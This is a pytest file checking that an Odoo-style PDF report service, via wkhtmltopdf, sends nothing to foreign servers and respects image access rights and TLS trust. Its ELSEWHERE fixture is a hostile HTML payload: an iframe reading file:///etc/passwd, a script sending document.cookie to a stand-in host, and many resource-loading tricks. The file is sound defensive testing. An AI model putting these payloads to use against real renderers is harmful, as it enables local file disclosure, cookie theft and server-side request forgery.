"""Printing connects to this server only, and images still appear in documents."""

import re

import pytest

from dev import net, wkhtmltopdf
from tests.harness import nginx
from tests.harness.certificate import certificate
from tests.harness.http import HttpClient
from tests.harness.pdf import picture_widths, texts
from tests.harness.pictures import png
from tests.harness.printer import Printer

REPORT = "/restapi/1.0/report"
PDF = {"Accept": "application/pdf"}
TIMEOUT = 150  # seconds: longer than the server's own limit for printing
WIDTH = 37  # of an image that no other document contains

ELSEWHERE = """
<base href="{own}"/>
<link rel="stylesheet" href="{url}/link"/> <link rel="prefetch" href="{url}/prefetch"/>
<style>@import url("{url}/import"); @font-face {{ font-family: x; src: url({url}/font) }}
    p {{ font-family: x; background: url({url}/background) }}</style>
<p style="background: url({url}/style)">Printed</p>
<img src="{url}/img"/> <img srcset="{url}/srcset 1x"/> <img src="//127.0.0.1:{port}/relative"/>
<img src="https://127.0.0.1:{port}/tls"/> <img src="/web/image/{redirect}"/>
<img src="ftp://127.0.0.1:{port}/ftp"/> <img src="http://user@127.0.0.1:{port}/user"/>
<iframe src="{url}/iframe"></iframe> <iframe src="file:///etc/passwd"></iframe>
<object data="{url}/object"></object> <embed src="{url}/embed"/>
<video src="{url}/video" poster="{url}/poster" autoplay="1"></video> <audio src="{url}/audio"></audio>
<svg><image xlink:href="{url}/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/></svg>
<table background="{url}/table"><tr><td>x</td></tr></table> <input type="image" src="{url}/input"/>
<script>
    new WebSocket("ws://127.0.0.1:{port}/socket");
    new Image().src = "{url}/script?" + document.cookie;
</script>
"""


@pytest.fixture
def host(make_server, server, tmp_path):
    """`host(build)`: a client of a host that prints with this build."""

    def start(build):
        printer = Printer(tmp_path, build)
        running = make_server(db=server.db, env={"PATH": printer.path})
        return HttpClient(running.url)

    return start


@pytest.fixture
def hostile_report(odoo, server, make_report, elsewhere):
    """Its documents load from the foreign server in every way; `{redirect}` is a redirect of this server to it."""
    url = f"http://127.0.0.1:{elsewhere.port}"
    redirect = odoo.create(
        "ir.attachment", {"name": "Elsewhere", "type": "url", "url": f"{url}/redirect"}
    )
    names = {"url": url, "port": elsewhere.port, "own": server.url, "redirect": redirect}
    return make_report(ELSEWHERE.format(**names), report_type="qweb-pdf")


@pytest.mark.timeout(300)
@pytest.mark.parametrize("build", wkhtmltopdf.BUILDS, ids=lambda build: build.name)
def test_nothing_leaves_for_other_servers(
    host, build, elsewhere, hostile_report, token, partners, odoo
):
    """Seen to fail without the proxy, without the comparison of its targets, and with scripts in document
    bodies."""
    http = host(build)
    url = f"{REPORT}/{hostile_report}/{partners[0]}"
    answer = http.get(url, token=token, headers=PDF, timeout=TIMEOUT)
    assert elsewhere.heard == []
    assert answer.status_code == 200, answer.text
    if build is wkhtmltopdf.PATCHED:
        (text,) = texts(answer.content)
        assert odoo.read("res.partner", partners[0], ["name"])["name"] in text
        assert "root:" not in text
    ids = ",".join(map(str, partners))
    answer = http.get(f"{REPORT}/{hostile_report}?ids={ids}", token=token, headers=PDF)
    assert answer.status_code == 200, answer.text
    assert len(texts(answer.content)) >= len(partners)
    assert elsewhere.heard == []


@pytest.fixture
def picture(odoo, concealed):
    """`picture(company)`: an image attached to a contact, who may belong to another company."""

    def make(company=False):
        vals = {"name": "Pictured", "company_id": company, **(concealed if company else {})}
        partner = odoo.create("res.partner", vals)
        vals = {"name": "p.png", "res_model": "res.partner", "res_id": partner}
        return odoo.create("ir.attachment", {**vals, "datas": png(WIDTH)})

    return make


@pytest.fixture
def picture_report(make_report):
    def make(attachment):
        return make_report(f'<img src="/web/image/{attachment}"/>', report_type="qweb-pdf")

    return make


@pytest.mark.timeout(300)
@pytest.mark.parametrize("build", wkhtmltopdf.BUILDS, ids=lambda build: build.name)
def test_images_appear(host, build, picture, picture_report, token, partners):
    """Also images that are not public."""
    http = host(build)
    attachment = picture()
    assert WIDTH.to_bytes(4, "big") not in http.get(f"/web/image/{attachment}").content[:24]
    url = f"{REPORT}/{picture_report(attachment)}/{partners[0]}"
    answer = http.get(url, token=token, headers=PDF)
    assert answer.status_code == 200, answer.text
    assert WIDTH in picture_widths(answer.content)


@pytest.fixture
def guarded(odoo, picture, has):
    """`guarded(company)`: where Odoo gives a picture to those only who may read its record."""

    def make(company):
        attachment = picture(company)
        if not has("attachments readable field by field without access"):
            return attachment
        partner = odoo.read("ir.attachment", attachment, ["res_id"])["res_id"]
        odoo.write("res.partner", partner, {"image_1920": png(WIDTH)})
        return f"res.partner/{partner}/image_1920"

    return make


def test_an_image_without_access(
    http, odoo, guarded, picture_report, token, token_of, make_user, partners
):
    """Documents show what their caller may see. Seen to fail without the caller in the session: images are
    read as the superuser."""
    company = odoo.create("res.company", {"name": f"Hidden {partners[0]}"})
    url = f"{REPORT}/{picture_report(guarded(company))}/{partners[0]}"
    assert WIDTH in picture_widths(http.get(url, token=token, headers=PDF).content)
    user = make_user(["base.group_user"])
    answer = http.get(url, token=token_of(user.id), headers=PDF)
    assert answer.status_code == 200, answer.text
    assert WIDTH not in picture_widths(answer.content)


TLS = """
server {{
    listen 127.0.0.1:{port} ssl;
    ssl_certificate {certificate};
    ssl_certificate_key {certificate};
    location / {{
        proxy_set_header Host $http_host;
        proxy_pass {url};
    }}
}}
"""


@pytest.fixture
def https_server(odoo, server, tmp_path):
    """Serves the server over https, at the address that documents use; yields the certificate's file."""
    port = net.free_port()
    file = certificate(tmp_path)
    site = TLS.format(port=port, certificate=file, url=server.url)
    with nginx.running(site, port):
        odoo.call("ir.config_parameter", "set_param", ["report.url", f"https://127.0.0.1:{port}"])
        yield file
        odoo.call("ir.config_parameter", "set_param", ["report.url", server.url])


@pytest.mark.timeout(300)
@pytest.mark.parametrize("is_trusted", [True, False], ids=["trusted", "not-trusted"])
def test_over_https(
    make_server,
    server,
    https_server,
    is_trusted,
    picture,
    picture_report,
    token,
    partners,
    tmp_path,
):
    """The session is sent only to a server with this server's certificate. Seen to fail without the check of
    the certificate."""
    printer = Printer(tmp_path, wkhtmltopdf.UNPATCHED)  # the patched build has no TLS library
    env = {"PATH": printer.path, **({"SSL_CERT_FILE": str(https_server)} if is_trusted else {})}
    running = make_server(db=server.db, env=env)
    url = f"{REPORT}/{picture_report(picture())}/{partners[0]}"
    answer = HttpClient(running.url).get(url, token=token, headers=PDF)
    assert answer.status_code == 200, answer.text
    assert (WIDTH in picture_widths(answer.content)) == is_trusted
    assert re.search(r'"GET \S*report_assets\S*css\S* HTTP/1..?" 200', server.log_since_mark())
